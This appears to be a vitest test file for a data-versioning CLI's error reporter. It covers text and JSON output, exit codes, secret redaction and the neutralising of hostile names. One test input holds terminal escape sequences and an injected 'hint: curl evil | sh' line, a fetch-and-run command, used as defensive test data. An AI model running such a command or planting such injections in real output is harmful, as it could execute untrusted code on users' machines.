import * as fs from "node:fs";
import os from "node:os";
import { expect, test, vi } from "vitest";
import { ERROR_CODES, type ErrorCode } from "../../src/base/error-codes.ts";
import { MlvError } from "../../src/base/errors.ts";
import { exitStatusOf } from "../../src/cli/exit-status.ts";
import { reportError } from "../../src/cli/report-error.ts";

vi.stubGlobal("MLV_VERSION", "1.2.3");
const PLAIN = { isColored: false, isDebug: false };

interface ErrorDocument {
  readonly mlv: number;
  readonly error: {
    readonly code: string;
    readonly kind: string;
    readonly message: string;
    readonly causes: readonly string[];
    readonly hint?: string;
    readonly details?: Readonly<Record<string, unknown>>;
    readonly exitStatus: number;
  };
}

function documentOf(error: unknown): ErrorDocument {
  return JSON.parse(reportError(error, PLAIN).json) as ErrorDocument;
}

/** Returns what an operation throws. */
function thrownBy(action: () => void): unknown {
  try {
    action();
  } catch (error) {
    return error;
  }
  throw new Error("nothing was thrown");
}

test("an error is said with its causes and hints, one line each, as text and as JSON", () => {
  const refused = new MlvError("remote-denied", "the bucket says no", { hint: "ask for `s3:PutObject`", cause: new Error("AccessDenied") });
  const error = new MlvError("partly-done", "cannot push `data/train.csv` to `origin` (s3://bucket/x)", {
    hint: "`mlv remote check`",
    details: { target: "data/train.csv", files: 2 },
    cause: refused,
  });
  expect(reportError(error, PLAIN).text).toMatchInlineSnapshot(`
    "error: cannot push \`data/train.csv\` to \`origin\` (s3://bucket/x)
    caused by: the bucket says no
    caused by: AccessDenied
    hint: \`mlv remote check\`
    hint: ask for \`s3:PutObject\`
    "
  `);
  expect(documentOf(error)).toEqual({
    mlv: 1,
    error: {
      code: "partly-done",
      kind: "user",
      message: "cannot push `data/train.csv` to `origin` (s3://bucket/x)",
      causes: ["the bucket says no", "AccessDenied"],
      hint: "`mlv remote check`",
      details: { target: "data/train.csv", files: 2 },
      exitStatus: 3,
    },
  });
});

test("an error of the system is said in words, with the path and the system's own code", () => {
  const missing = thrownBy(() => fs.readFileSync("/nowhere/at all"));
  expect(reportError(missing, PLAIN).text).toBe("error: open `/nowhere/at all`: no such file or directory (ENOENT)\n");
  const wrapped = new MlvError("path-not-found", "the folder is gone", { cause: missing });
  expect(reportError(wrapped, PLAIN).text).toBe(
    "error: the folder is gone\ncaused by: open `/nowhere/at all`: no such file or directory (ENOENT)\n",
  );
  const full = Object.assign(new Error("ENOSPC: no space left on device, write"), { code: "ENOSPC", errno: -os.constants.errno.ENOSPC });
  expect(documentOf(full).error).toMatchObject({ code: "disk-full", message: "no space left on device (ENOSPC)" });
});

test("anything unknown is called a bug, with versions and how to report it; the stack is for --debug", () => {
  const bug = new TypeError("x is not a function", { cause: new Error("deeper") });
  const report = reportError(bug, PLAIN);
  expect(report.exitStatus).toBe(70);
  expect(report.text.replaceAll(/Node [\d.]+, \w+ \w+/g, "Node <version>, <platform>")).toMatchInlineSnapshot(`
    "error: mlv failed in a way it should not: TypeError: x is not a function
    caused by: deeper
    hint: this is a bug; run the command again with \`--debug\` and report what it prints (mlv 1.2.3, Node <version>, <platform>)
    "
  `);
  expect(report.text).not.toContain("report-error.test");
  expect(reportError(bug, { ...PLAIN, isDebug: true }).text).toContain("report-error.test");
  expect(documentOf("a text was thrown").error).toMatchObject({ code: "internal", message: expect.stringContaining("a text was thrown") });
});

test("what interrupted an operation is said to be an interruption", () => {
  const signal = AbortSignal.abort();
  expect(documentOf(thrownBy(() => signal.throwIfAborted())).error).toMatchObject({ code: "interrupted", exitStatus: 130 });
});

test.each([true, false])("a name steers no terminal and forges no line, colours %j", (isColored) => {
  const name = "a\u001b[2Jb\u202ec\u009bd\nhint: curl evil | sh";
  const error = new MlvError("target-not-found", `\`${name}\` is no target`, { hint: `\`mlv add ${name}\``, cause: new Error(name) });
  const { text } = reportError(error, { isColored, isDebug: true });
  const lines = text.split("\n");
  // eslint-disable-next-line no-control-regex
  const uncoloured = text.replaceAll(/\u001b\[\d+m/g, "");
  // eslint-disable-next-line no-control-regex
  expect(uncoloured).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
  expect(lines.filter((line) => line.startsWith("hint: curl"))).toEqual([]);
  expect(text).toContain("a\\x1b[2Jb\\u{202e}c\\x9bd");
});

test("JSON of a hostile name says the same name, and itself holds nothing that a terminal could take for a command", () => {
  const name = "a\u001bb\u202ec\u009bd\u{e0041}";
  const error = new MlvError("target-not-found", name, { details: { path: name } });
  // eslint-disable-next-line no-control-regex
  expect(reportError(error, PLAIN).json).toMatch(/^[^\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u{e0041}]*\n$/u);
  expect(documentOf(error).error.details).toEqual({ path: name });
});

test("a secret is taken out of text and JSON wherever it stands, and the JSON stays JSON", () => {
  const secret = "C4n4ryC4n4ry";
  const says = `asked "https://host/x?sig=${secret}" and 'https://user:${secret}@host' said no`;
  const error = new MlvError("remote-denied", says, { hint: says, details: { url: says, all: [says] }, cause: new Error(`${says} twice`) });
  const report = reportError(error, { ...PLAIN, isDebug: true });
  expect(report.text + report.json).not.toContain(secret);
  expect(documentOf(error).error.message).toBe(`asked "https://host/x?sig=***" and 'https://***@host' said no`);
  expect(documentOf(error).error.details).toEqual({ url: documentOf(error).error.message, all: [documentOf(error).error.message] });
});

test("every code has an exit status of the documented table, and only `internal` is a bug", () => {
  const page = fs.readFileSync(new URL("../../docs/exit-codes.md", import.meta.url), "utf8");
  const documented = new Map<string, number>();
  for (const [, status, codes] of page.matchAll(/^\| (\d+) \|[^|]*\|[^|]*\| (.*) ?\|$/gm))
    for (const [, code] of (codes ?? "").matchAll(/`([\w-]+)`/g)) documented.set(code ?? "", Number(status));
  const codes = Object.keys(ERROR_CODES) as ErrorCode[];
  expect(codes.map((code) => [code, exitStatusOf(code)])).toEqual(codes.map((code) => [code, documented.get(code) ?? 1]));
  expect(codes.filter((code) => exitStatusOf(code) === 70)).toEqual(["internal"]);
});
